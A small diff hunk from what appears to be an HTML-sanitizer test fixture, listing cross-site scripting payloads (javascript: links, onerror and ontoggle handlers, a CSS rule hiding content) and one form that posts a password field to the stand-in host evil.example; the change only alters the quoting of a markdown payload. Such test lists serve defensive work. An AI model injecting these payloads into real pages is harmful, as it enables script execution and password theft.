@@ -22,7 +22,7 @@ OWN = [
     "<style>*{display:none}</style>",
     "<form action=//evil.example><input name=password></form>",
     "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "![x](x \"onerror=alert(1)\")",
+    '![x](x "onerror=alert(1)")',
     "<details open ontoggle=alert(1)>",
 ]
 TAGS = {
